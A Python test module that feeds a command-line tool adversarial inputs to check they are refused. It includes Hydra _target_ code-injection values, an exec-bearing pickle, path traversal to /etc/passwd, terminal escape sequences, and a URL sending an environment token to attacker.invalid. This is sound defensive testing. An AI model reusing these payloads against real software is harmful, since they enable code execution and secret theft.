"""Records, studies and names made by an adversary. Each is refused by name, and none of its code runs."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from corpus.cases import Case
from corpus.records import MARK, SECRET, evil_module, run_folder, video


def record(command: str, key: str, value: object, **more: object) -> Callable[[Path], list[str]]:
    """`run run_dir=DIR` or `rerun DIR` of a record with one bad value; friend/evil.py lies in the current directory."""

    def make(at: Path) -> list[str]:
        evil_module(at)
        folder = run_folder(at / "theirs", {key: value, **more})
        return ["run", f"run_dir={folder}"] if command == "run" else ["rerun", str(folder), "--out", str(at / "new")]

    return make


def study(text: str, files: dict[str, str] | None = None, command: str = "sweep") -> Callable[[Path], list[str]]:
    """`sweep study.yaml`, or the plan of the same file as a primary configuration of `run`; `files` lie beside it."""

    def make(at: Path) -> list[str]:
        evil_module(at)
        file = at / "theirs" / "study.yaml"
        for name, content in {**(files or {}), file.name: text}.items():
            path = file.parent / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(content)
        if command == "sweep":
            return ["sweep", str(file)]
        return ["run", "--config-dir", str(file.parent), "--config-name", "study", "dry_run=true"]

    return make


def config_text(text: str) -> Callable[[Path], list[str]]:
    """`rerun DIR` with this config.yaml."""

    def make(at: Path) -> list[str]:
        folder = run_folder(at / "theirs")
        (folder / "config.yaml").write_text(text)
        return ["rerun", str(folder), "--out", str(at / "new")]

    return make


def scores(*rows: dict[str, Any], command: tuple[str, ...] = ("report",)) -> Callable[[Path], list[str]]:
    """`report DIR` where scores.jsonl names files outside; a private video lies there."""

    def make(at: Path) -> list[str]:
        (at / "private.mp4").write_bytes(video())
        folder = run_folder(at / "runs" / "theirs", rows=list(rows))
        (folder / "videos" / "link.mp4").symlink_to(at / "private.mp4")
        return [*command, str(at / "runs")]

    return make


def outside_manifest(at: Path) -> list[str]:
    """`report --verify` with a manifest that lists a file outside as a video."""
    (at / "private.txt").write_text(SECRET)
    folder = run_folder(at / "runs" / "theirs")
    evaluated = {"videos": {"../../private.txt": "0" * 64}, "scores": {"../../private.txt": "0" * 64}}
    (folder / "manifest.json").write_text(json.dumps({"name": "run", "stages": {}, "evaluated": evaluated}))
    return ["report", str(at / "runs"), "--verify"]


def override(*words: str) -> Callable[[Path], list[str]]:
    """`run` with words that name a bad place."""
    return lambda at: ["run", "dry_run=true", *words]


SHIP = "defaults: [config, _self_]\nname: study\n"
PARAMS = SHIP + "hydra: {mode: MULTIRUN, sweeper: {params: {rank: \"'8'\"}}}\n"
CODE = (
    Case("judge", record("run", "judge.name", "friend.evil.J"), 2, ("judge.name=friend.evil.J", "no such choice")),
    Case(
        "judge, two processes",
        record("run", "judge.name", "friend.evil:J", **{"hardware.num_processes": 2}),
        2,
        ("judge.name=friend.evil:J", "no such choice"),
    ),
    Case(
        "model", record("run", "model.builder", "friend.evil.J"), 2, ("model.builder=friend.evil.J", "no such choice")
    ),
    Case("data", record("rerun", "data.builder", "friend.evil:J"), 2, ("data.builder=friend.evil:J", "no such choice")),
    Case("reader", record("rerun", "data.reader", "friend.evil.J"), 2, ("data.reader=friend.evil.J", "no such choice")),
    Case(
        "matcher", record("rerun", "sampson.matcher", "os.system"), 2, ("sampson.matcher=os.system", "no such choice")
    ),
    Case(
        "callbacks",
        study(SHIP + "hydra: {callbacks: {x: {_target_: friend.evil.J}}}\n"),
        2,
        ("hydra.callbacks", "refused", "study.yaml"),
    ),
    Case(
        "callbacks, run",
        study(SHIP + "hydra: {callbacks: {x: {_target_: friend.evil.J}}}\n", command="run"),
        2,
        ("hydra.callbacks", "refused"),
    ),
    Case(
        "launcher",
        study(SHIP + "hydra: {launcher: {_target_: friend.evil.J}}\n"),
        2,
        ("hydra.launcher._target_", "refused"),
    ),
    Case(
        "sweeper",
        study(SHIP + "hydra: {sweeper: {_target_: friend.evil.J}}\n"),
        2,
        ("hydra.sweeper._target_", "refused"),
    ),
    Case(
        "searchpath", study(SHIP + "hydra: {searchpath: ['pkg://friend.evil']}\n", command="run"), 0, ("config hash",)
    ),
    Case(
        "logging",
        study(SHIP + "hydra: {job_logging: {version: 1, handlers: {x: {(): friend.evil.J}}}}\n"),
        2,
        ("hydra.job_logging", "refused"),
    ),
    Case(
        "environment", study(SHIP + "hydra: {job: {env_set: {PYTHONPATH: '.'}}}\n"), 2, ("hydra.job.env_set", "refused")
    ),
    Case(
        "a launcher of its own",
        study(
            "defaults: [config, _self_, {override hydra/launcher: mine}]\nname: study\n",
            {"hydra/launcher/mine.yaml": "_target_: friend.evil.J\n"},
        ),
        2,
        ("hydra.launcher._target_", "refused"),
    ),
    Case(
        "parameters",
        study(PARAMS.replace("rank:", "hydra.launcher._target_: friend.evil.J, rank:")),
        2,
        ("hydra.launcher._target_", "refused"),
    ),
    Case(
        "arms",
        study(SHIP + "sweep: {arms: {a: {hydra.launcher._target_: friend.evil.J}}}\n"),
        2,
        ("hydra.launcher._target_", "refused"),
    ),
    Case(
        "a group of theirs",
        study(
            "defaults: [config, _self_, {override judge: theirs}]\nname: study\n",
            {"judge/theirs.yaml": "name: friend.evil.J\n"},
            command="run",
        ),
        2,
        ("judge.name=friend.evil.J", "no such choice"),
    ),
    Case("another conf/", lambda at: ["run", "--config-path", str(at)], 2, ("--config-path",)),
    Case(
        "a pickle of Hydra",
        lambda at: ["run", "--experimental-rerun", str(at / "config.pickle")],
        2,
        ("--experimental-rerun",),
    ),
)
READ_SECRET = "http://attacker.invalid/v1/${oc.env:CORPUS_TOKEN}"
SECRETS = (
    Case(
        "interpolation in a study",
        study(SHIP + f"judge: {{url: '{READ_SECRET}'}}\n"),
        2,
        ("judge.url", "oc.env"),
        (SECRET,),
    ),
    Case(
        "interpolation, command line",
        override("judge=server", f"judge.url='{READ_SECRET}'"),
        2,
        ("judge.url", "oc.env"),
        (SECRET,),
    ),
    Case(
        "password in a URL",
        lambda at: [
            "judge",
            _clip(at),
            "--judge",
            "server",
            "--url",
            f"http://me:{SECRET}@127.0.0.1:9/v1",
            "--set",
            "judge.retries=0",
        ],
        2,
        ("***@127.0.0.1", "Check that the server runs"),
        (SECRET,),
    ),
    Case("alias", config_text("name: &a [x]\ntags: *a\n"), 2, ("config.yaml", "alias")),
    Case("tag", config_text("name: !!python/object/apply:os.getcwd []\n"), 2, ("config.yaml", "not valid YAML")),
    Case("no mapping", config_text("- a\n"), 2, ("config.yaml", "not a configuration")),
    Case("binary", config_text("\x00\x01"), 2, ("config.yaml", "not valid YAML")),
)
PATHS = (
    Case("video", scores({"video": "../../../private.mp4"}), 2, ("scores.jsonl: row 1, video", "leaves")),
    Case("absolute video", scores({"video": "/etc/passwd"}), 2, ("scores.jsonl: row 1, video", "leaves")),
    Case("linked video", scores({"video": "link.mp4"}), 2, ("link.mp4", "leads out of")),
    Case("sample", scores({"sample": "../../../x"}), 2, ("scores.jsonl: row 1, sample", "leaves")),
    Case(
        "sample with an escape",
        scores({"sample": "a\x1b[2J"}),
        2,
        ("scores.jsonl: row 1, sample", "control characters", "\\x1b[2J"),
        ("\x1b",),
    ),
    Case("manifest", outside_manifest, 1, ("../../private.txt", "leaves"), (SECRET,)),
    Case("name", override("name=../../x"), 2, ("name=../../x", "leaves")),
    Case("absolute name", override("name=/x"), 2, ("name=/x", "leaves")),
    Case("name with an escape", override("name='a\x1b[2J'"), 2, ("name=a\\x1b[2J", "control characters"), ("\x1b",)),
    Case("name in a record", record("run", "name", "../../x"), 2, ("name=../../x", "config.yaml")),
    Case("name in a study", study(PARAMS.replace("name: study", "name: ../../x")), 2, ("name=../../x", "leaves")),
    Case("arm", study(SHIP + "sweep: {arms: {../../x: {rank: 8}}}\n"), 2, ("sweep.arms", "not a name")),
    Case("tag of a value", override("judge=x\x1b]0;t\x07"), 2, ("\\x1b",), ("\x1b",)),
    Case("file name", lambda at: ["sampson", str(at / "a\x1b[2J.mp4")], 2, ("a\\x1b[2J.mp4",), ("\x1b",)),
)


def pickled_weights(at: Path) -> list[str]:
    """`run` with a model folder whose transformer is a pickle."""
    for name in ("transformer", "vae", "text_encoder", "tokenizer", "scheduler"):
        (at / "model" / name).mkdir(parents=True)
    (at / "model" / "transformer" / "diffusion_pytorch_model.bin").write_bytes(evil_pickle(at))
    return ["run", f"model.source={at / 'model'}", f"run_dir={at / 'run'}"]


def evil_pickle(at: Path) -> bytes:
    """A pickle that leaves a mark when it is read."""
    code = f"open({str(at / MARK)!r}, 'w')"
    return b"cbuiltins\nexec\n(V" + code.encode() + b"\ntR."


def pickled_adapter(at: Path) -> list[str]:
    """`adapter info` of a pickle with the name of an adapter."""
    (at / "adapter.safetensors").write_bytes(evil_pickle(at) + b"x" * 64)
    return ["adapter", "info", str(at / "adapter.safetensors")]


def _clip(at: Path) -> str:
    (at / "clip.mp4").write_bytes(video())
    return str(at / "clip.mp4")


PICKLES = (
    Case("weights", pickled_weights, 2, ("model.source=", "diffusion_pytorch_model.bin", "pickle", ".safetensors")),
    Case("adapter", pickled_adapter, 2, ("adapter.safetensors", "cannot be read as an adapter")),
)
